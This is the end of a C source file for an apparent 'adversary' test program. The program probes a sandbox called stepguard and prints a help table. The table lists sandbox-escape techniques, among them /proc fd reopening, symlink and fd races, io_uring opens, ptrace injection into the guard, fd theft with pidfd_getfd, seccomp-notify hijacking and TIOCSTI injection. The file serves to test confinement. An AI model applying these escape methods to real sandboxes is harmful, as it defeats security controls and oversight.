			r = fd < 0 || dprintf(fd, "%s\n", val) < 0 || fchmod(fd, 0644) < 0 ? -1 : 0;
			if (fd >= 0)
				close(fd);
		} else if (val && strcmp(kind, "t") == 0) {
			struct timespec ts[2] = { { .tv_sec = atol(val + 1) }, { .tv_sec = atol(val + 1) } };

			*val = '\0';
			r = utimensat(AT_FDCWD, arg, ts, AT_SYMLINK_NOFOLLOW);
		} else if (val && strcmp(kind, "x") == 0) {
			char *v2 = strchr(val + 1, '=');

			if (!v2)
				return usage_error("tree x:PATH=NAME=VALUE");
			*val++ = '\0';
			*v2++ = '\0';
			if (setxattr(arg, val, v2, strlen(v2), 0) < 0 && errno != ENOTSUP)
				r = -1;
		} else {
			return usage_error("tree OP:ARG... (rm: d: f:PATH=TEXT t:PATH=EPOCH x:PATH=NAME=VAL)");
		}
		if (r != 0) {
			fprintf(stderr, "adversary tree: %s:%s: %s\n", kind, arg, strerror(errno));
			return 1;
		}
	}
	return 0;
}

/* ------------------------------------------------------------------ */

static const struct {
	const char *name;
	int (*fn)(int, char **);
	const char *help;
} cmds[] = {
	{ "create", cmd_create, "PATH [DATA]: open O_CREAT|O_TRUNC and write" },
	{ "append", cmd_append, "PATH [DATA]: open O_WRONLY|O_APPEND and write" },
	{ "overwrite", cmd_overwrite, "PATH [DATA]: open O_WRONLY, pwrite at 0, fsync" },
	{ "truncate", cmd_truncate, "PATH [LEN]: truncate(2)" },
	{ "otrunc", cmd_otrunc, "PATH: open O_RDONLY|O_TRUNC" },
	{ "ftrunc", cmd_ftrunc, "PATH: open O_WRONLY, ftruncate 0" },
	{ "mkdir", cmd_mkdir, "PATH" },
	{ "mkdir-p", cmd_mkdir_p, "PATH: every component" },
	{ "rmdir", cmd_rmdir, "PATH" },
	{ "unlink", cmd_unlink, "PATH" },
	{ "rename", cmd_rename, "OLD NEW" },
	{ "exchange", cmd_exchange, "A B: renameat2 RENAME_EXCHANGE" },
	{ "link", cmd_link, "OLD NEW" },
	{ "link-write", cmd_link_write, "OLD NEW: link, then append through NEW" },
	{ "link-emptypath", cmd_link_emptypath, "OLD NEW: linkat AT_EMPTY_PATH of an O_RDONLY fd, then append" },
	{ "symlink", cmd_symlink, "TARGET LINKPATH" },
	{ "symlink-write", cmd_symlink_write, "TARGET LINKPATH: plant, then open for writing" },
	{ "symlink-dir-create", cmd_symlink_dir_create, "TARGETDIR LINKPATH NAME" },
	{ "tmpfile", cmd_tmpfile, "DIR LINKPATH: O_TMPFILE, then linkat" },
	{ "procfd-reopen", cmd_procfd_reopen, "PATH opath|rdonly: reopen /proc/self/fd/N O_WRONLY" },
	{ "procroot", cmd_procroot, "ABSPATH: create /proc/self/root/ABSPATH" },
	{ "proccwd", cmd_proccwd, "DIR RELPATH: chdir DIR, create /proc/self/cwd/RELPATH" },
	{ "chdir-create", cmd_chdir_create, "DIR RELPATH: chdir, then create a relative name" },
	{ "dirfd-create", cmd_dirfd_create, "fd:N|opath:DIR|dir:DIR NAME: openat O_CREAT" },
	{ "dirfd-trick", cmd_dirfd_trick, "DIR NAME: the same as dirfd-create dir:DIR NAME" },
	{ "fd-write", cmd_fd_write, "N [DATA]: write to an inherited descriptor" },
	{ "chmod", cmd_chmod, "PATH MODE" },
	{ "fchmod-ro", cmd_fchmod_ro, "PATH MODE: fchmod on an O_RDONLY fd" },
	{ "fchmodat2", cmd_fchmodat2, "PATH MODE: the 6.6 syscall" },
	{ "chmod-procfd", cmd_chmod_procfd, "PATH MODE: chmod /proc/self/fd/N of an O_PATH fd" },
	{ "chown", cmd_chown, "PATH UID GID" },
	{ "fchown-ro", cmd_fchown_ro, "PATH UID GID: fchown on an O_RDONLY fd" },
	{ "chown-emptypath", cmd_chown_emptypath, "PATH UID GID: fchownat AT_EMPTY_PATH of O_PATH" },
	{ "utimensat", cmd_utimensat, "PATH: times to 2001-01-01" },
	{ "futimens-ro", cmd_futimens_ro, "PATH: futimens on an O_RDONLY fd" },
	{ "utime-legacy", cmd_utime_legacy, "utime|utimes|futimesat PATH" },
	{ "setxattr", cmd_setxattr, "PATH NAME VALUE" },
	{ "fsetxattr-ro", cmd_fsetxattr_ro, "PATH NAME VALUE: on an O_RDONLY fd" },
	{ "setxattr-procfd", cmd_setxattr_procfd, "PATH NAME VALUE: through /proc/self/fd/N" },
	{ "setxattrat", cmd_setxattrat, "PATH NAME VALUE: the 6.13 syscall" },
	{ "removexattr", cmd_removexattr, "PATH NAME" },
	{ "fremovexattr-ro", cmd_fremovexattr_ro, "PATH NAME: on an O_RDONLY fd" },
	{ "removexattrat", cmd_removexattrat, "PATH NAME: the 6.13 syscall" },
	{ "getxattr", cmd_getxattr, "PATH NAME: print the value" },
	{ "setflags", cmd_setflags, "PATH: FS_IOC_SETFLAGS +nodump on an O_RDONLY fd" },
	{ "setversion", cmd_setversion, "PATH: FS_IOC_SETVERSION (generation + 1) on an O_RDONLY fd" },
	{ "fssetxattr", cmd_fssetxattr, "PATH: FS_IOC_FSSETXATTR +nodump on an O_RDONLY fd" },
	{ "emptypath", cmd_emptypath, "fchmodat2|utimensat PATH: AT_EMPTY_PATH on an O_PATH fd" },
	{ "file-setattr", cmd_file_setattr, "PATH: file_setattr +FS_XFLAG_NODUMP (6.17)" },
	{ "bind-unix", cmd_bind_unix, "PATH" },
	{ "mkfifo", cmd_mkfifo, "PATH" },
	{ "mknod-reg", cmd_mknod_reg, "PATH: mknod S_IFREG" },
	{ "mknod-write", cmd_mknod_write, "PATH MAJOR MINOR DATA: block node, then write" },
	{ "shm", cmd_shm, "NAME: create /dev/shm/NAME" },
	{ "get-handle", cmd_get_handle, "PATH OUTFILE: name_to_handle_at (harness side)" },
	{ "open-by-handle", cmd_open_by_handle, "TARGET MOUNTREF [HANDLEFILE]" },
	{ "ns-bind", cmd_ns_bind, "MODE SRC MNT NAME: bind mount in new namespaces, write" },
	{ "io-uring", cmd_io_uring, "PATH: IORING_OP_OPENAT O_CREAT" },
	{ "io_uring", cmd_io_uring, "PATH: the same as io-uring" },
	{ "userns-bind", cmd_userns_bind, "SRC MNT NAME: the same as ns-bind unshare-user" },
	{ "daemon-write", cmd_daemon_write, "DELAY PIDFILE NEWFILE [ATTRTARGET]" },
	{ "kill-parent-then-write", cmd_kill_parent_then_write, "NEWFILE [ATTRTARGET [DONEFILE]]" },
	{ "orphan-then-write", cmd_orphan_then_write, "NEWFILE [ATTRTARGET [DONEFILE]]: after the parent dies" },
	{ "ptrace-parent", cmd_ptrace_parent, "DIR: inject mkdir(DIR) into the guard" },
	{ "guard-fd-reopen", cmd_guard_fd_reopen, "DATA: write to the guard's fds via /proc" },
	{ "steal-fd", cmd_steal_fd, "PID FD DATA: pidfd_getfd, then write" },
	{ "notify-hijack", cmd_notify_hijack, "PATH: answer stepguard's listener ourselves" },
	{ "nested-notify", cmd_nested_notify, "PATH: our own notify filter answering CONTINUE" },
	{ "race-symlink", cmd_race_symlink, "LINK INSIDE OUTSIDE SECONDS" },
	{ "race-mem", cmd_race_mem, "/INSIDE /OUTSIDE SECONDS" },
	{ "race-fd", cmd_race_fd, "DIRA DIRB NAME SECONDS: flip descriptor numbers" },
	{ "race-cwd", cmd_race_cwd, "DIRA DIRB NAME SECONDS: flip the working directory" },
	{ "abi", cmd_abi, "i386|x32 chmod|creat PATH [MODE]" },
	{ "tiocsti", cmd_tiocsti, "TEXT [hi]" },
	{ "pty-run", cmd_pty_run, "CMD...: run on a new controlling pty (harness)" },
	{ "victim", cmd_victim, "CMD...: unconfined stand-in for stepguard (harness)" },
	{ "deputy-serve", cmd_deputy_serve, "@NAME|PATH: create paths on request (harness)" },
	{ "deputy-ask", cmd_deputy_ask, "@NAME|PATH PATH" },
	{ "proc-read", cmd_proc_read, "PID|@PIDFILE|self|child FILE OUT: copy /proc/PID/FILE to OUT" },
	{ "sched-set", cmd_sched_set, "PID|@PIDFILE|child [OUT]: setpriority, sched_setaffinity, prlimit(FSIZE)" },
	{ "mm-pages", cmd_mm_pages, "PID|@PIDFILE|self OUT: migrate_pages, move_pages, process_madvise" },
	{ "core-raise", cmd_core_raise, "PIDFILE: raise RLIMIT_CORE, leave a child holding it" },
	{ "ipc-attack", cmd_ipc_attack, "KEYFILE: msgsnd to and write the shm of another process" },
	{ "ipc-own", cmd_ipc_own, "OUT: the step's own queue and segment" },
	{ "mq-unlink", cmd_mq_unlink, "/NAME: mq_unlink" },
	{ "mq-create", cmd_mq_create, "/NAME: mq_open(O_CREAT|O_EXCL)" },
	{ "pty-write", cmd_pty_write, "PATH|@FILE DATA: write to a terminal" },
	{ "pty-own", cmd_pty_own, "OUT: the step's own pty pair, written and read back" },
	{ "fs-ioctl", cmd_fs_ioctl, "setlabel DIR LABEL|freeze DIR|thaw DIR: on the scratch fs, O_RDONLY fd" },
	{ "hold", cmd_hold, "ARGSECRET MEMSECRET: an outside process holding secrets (harness)" },
	{ "pty-hold", cmd_pty_hold, "hold a pty's slave, copy what the master reads (harness)" },
	{ "uts-hold", cmd_uts_hold, "NAME: a UTS namespace whose domainname is NAME (harness)" },
	{ "uts-enter", cmd_uts_enter, "PID CMD...: run CMD in PID's UTS namespace (harness)" },
	{ "ipc-hold", cmd_ipc_hold, "a System V queue and segment of an outside process (harness)" },
	{ "ipc-look", cmd_ipc_look, "KEYFILE: the queue's length, the segment's text (harness)" },
	{ "ipc-rm", cmd_ipc_rm, "KEYFILE: remove them (harness)" },
	{ "mq", cmd_mq, "create|exists|unlink /NAME (harness)" },
	{ "fs-state", cmd_fs_state, "label|freeze|thaw DIR: the scratch fs (harness)" },
	{ "deep-tree", cmd_deep_tree, "DIR N" },
	{ "flood", cmd_flood, "OUTDIR CTRLDIR N: N refused creates, a control create every 100" },
	{ "snapshot", cmd_snapshot, "PATH...: one judging line per path (harness)" },
	{ "snaptree", cmd_snaptree, "DIR [EXCLUDE...]: judging lines for a tree (harness)" },
	{ "tree", cmd_tree, "OP:ARG...: the harness's fresh tree (rm: d: f: t: x:), harness" },
};

/* Subcommands the harness runs outside stepguard: no "start" line. */
static bool is_harness_helper(const char *name)
{
	static const char *const helpers[] = {
		"snapshot", "snaptree", "tree", "getxattr", "get-handle", "victim", "pty-run", "deputy-serve",
		"hold", "pty-hold", "ipc-hold", "ipc-look", "ipc-rm", "mq", "fs-state", "uts-hold",
		"uts-enter",
	};

	for (size_t i = 0; i < sizeof(helpers) / sizeof(helpers[0]); i++)
		if (strcmp(name, helpers[i]) == 0)
			return true;
	return false;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2)
		for (size_t i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++)
			if (strcmp(argv[1], cmds[i].name) == 0) {
				op = cmds[i].name;
				/* Proof that the step ran at all (not of what it did). */
				if (!is_harness_helper(op)) {
					note("start, pid %d, ppid %d, uid %u", (int)getpid(), (int)getppid(),
					     (unsigned)geteuid());
					open_reached();
					mark_start("pid %d, ppid %d, uid %u", (int)getpid(), (int)getppid(),
						   (unsigned)geteuid());
				}
				return cmds[i].fn(argc - 2, argv + 2);
			}
	fprintf(stderr, "usage: adversary COMMAND ARGS...\n"
			"exit: 0 the operation succeeded, 1 it was refused, 2 usage\n\n");
	for (size_t i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++)
		fprintf(stderr, "  %-22s %s\n", cmds[i].name, cmds[i].help);
	return 2;
}
